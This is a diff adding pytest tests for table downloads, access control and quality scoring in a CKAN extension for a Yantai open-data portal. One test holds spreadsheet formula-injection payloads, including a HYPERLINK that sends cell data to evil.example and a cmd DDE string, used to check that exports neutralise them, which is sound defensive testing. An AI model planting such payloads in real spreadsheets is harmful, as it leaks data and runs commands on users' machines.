@@ -10,6 +10,8 @@ import json
 import os
 import subprocess
 import sys
+import urllib.parse
+import uuid
 
 import ckan.plugins.toolkit as tk
 import openpyxl
@@ -328,3 +330,98 @@ def test_an_editor_asks_for_a_reload_from_the_page(app, editor, dataset):
     assert (loader.status(resource["id"]) or {})["state"] == "pending"
     assert loader.yantai_datastore_load(resource["id"], force=True)["state"] == "complete"
     get_queue().empty()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
+def test_the_table_downloads_in_the_formats_people_use(app, editor, fmt):
+    dataset = factories.Dataset(info_items=ITEMS, user=editor, title="烟台市行政处罚信息")
+    resource = upload(editor, dataset, csv_bytes("gb18030"), "处罚.csv", "CSV")
+    load(resource)
+    assert f"table.{fmt}" in page(app, dataset, resource)
+    answer = app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/table.{fmt}")
+    assert answer.status_code == 200
+    disposition = answer.headers["Content-Disposition"]
+    assert "filename*=UTF-8''" in disposition
+    assert urllib.parse.unquote(disposition.split("''", 1)[1]) == \
+        f"烟台市行政处罚信息-文件 处罚.{fmt}"
+    if fmt == "csv":
+        assert answer.data.startswith("\ufeff".encode())
+        rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
+    elif fmt == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
+        rows = [["" if v is None else str(v) for v in r]
+                for r in sheet.iter_rows(values_only=True)]
+    else:
+        body = json.loads(answer.data)
+        rows = [body["fields"]] + [[str(r[k]) for k in body["fields"]] for r in body["records"]]
+    assert rows[0] == HEADER
+    assert len(rows) == 5 and "蓬莱䶮字海景酒店" in {r[0] for r in rows}
+    amounts = {r[0]: r[1] for r in rows[1:]}
+    assert amounts["莱山区老味道餐饮店"] == "4.72" and amounts["山东鲁信化工股份有限公司"] == "28"
+
+
+def test_rows_keep_the_files_order_and_later_rows_follow(editor, dataset):
+    rows = [[f"烟台第{n}食品有限公司", str(n), "2026-03-01", ""] for n in range(1, 31)]
+    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
+    assert load(resource)["rows"] == 30
+    found = search(resource, sort="_id", limit=100)["records"]
+    assert [(r["_id"], r["处罚金额"]) for r in found] == [(n, n) for n in range(1, 31)]
+    call_action("datastore_upsert", resource_id=resource["id"], force=True, method="insert",
+                records=[{"企业名称": "新增企业", "处罚金额": 1}])
+    assert search(resource, q="新增企业")["records"][0]["_id"] == 31
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_value_that_would_start_a_formula_stays_text_in_spreadsheets(app, editor, fmt):
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0",
+               "@SUM(1+1)", "-2+3", "\t=1+1"]
+    rows = [[name, "5", "2026-03-01", ""] for name in hostile] + [["-", "-4.5", "", ""]]
+    dataset = factories.Dataset(info_items=ITEMS, user=editor)
+    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
+    assert load(resource)["state"] == "complete"
+    answer = app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/table.{fmt}")
+    if fmt == "csv":
+        got = [r[:2] for r in csv.reader(io.StringIO(answer.data.decode("utf-8-sig")))][1:]
+        assert [r[0] for r in got] == ["'" + v for v in hostile] + ["-"]
+        assert got[-1][1] == "-4.5"  # numbers stay numbers
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
+        cells = [r[0] for r in sheet.iter_rows(min_row=2)]
+        assert [c.value for c in cells] == [*hostile, "-"]
+        assert {c.data_type for c in cells} == {"s"}
+
+
+def test_table_downloads_of_conditional_data_only_to_those_who_may_have_it(app, editor):
+    dataset = factories.Dataset(info_items=ITEMS, user=editor, open_type="conditional",
+                                open_condition="需签署安全承诺书")
+    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
+    load(resource)
+    url = f"/dataset/{dataset['name']}/resource/{resource['id']}/table.csv"
+    outsider = {"Authorization": ckan_factories.APIToken(
+        user=ckan_factories.User()["name"])["token"]}
+    for headers in ({}, outsider):
+        assert app.get(url, headers=headers, status=404)
+        assert "table.csv" not in page(app, dataset, resource, headers=headers)
+    own = {"Authorization": ckan_factories.APIToken(user=editor["name"])["token"]}
+    assert "烟台恒瑞食品有限公司" in app.get(url, headers=own).data.decode("utf-8-sig")
+    missing = f"/dataset/{dataset['name']}/resource/{uuid.uuid4()}/table.csv"
+    assert app.get(missing, headers=outsider, status=404)
+
+
+def test_a_table_unlike_its_catalogue_entry_lowers_the_quality_score(editor):
+    from ckanext.yantai import quality_index
+
+    dataset = factories.Dataset(info_items=ITEMS, user=editor)
+    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
+    load(resource)
+    good = quality_index.assess(call_action("package_show", id=dataset["id"]))
+    assert "table_mismatch" not in good.issues
+    rows = [*ROWS[:2], ["招远黄金冶炼厂", "暂无", "2026-03-05", ""]]
+    upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV",
+           resource_id=resource["id"])
+    load(resource)
+    bad = quality_index.assess(call_action("package_show", id=dataset["id"]))
+    assert "table_mismatch" in bad.issues and bad.score == good.score - 15
+    indexed = call_action("package_search", fq=f"id:{dataset['id']}",
+                          fl="id,quality_score,quality_issues")["results"]
+    assert indexed and "table_mismatch" in indexed[0].get("quality_issues", [])
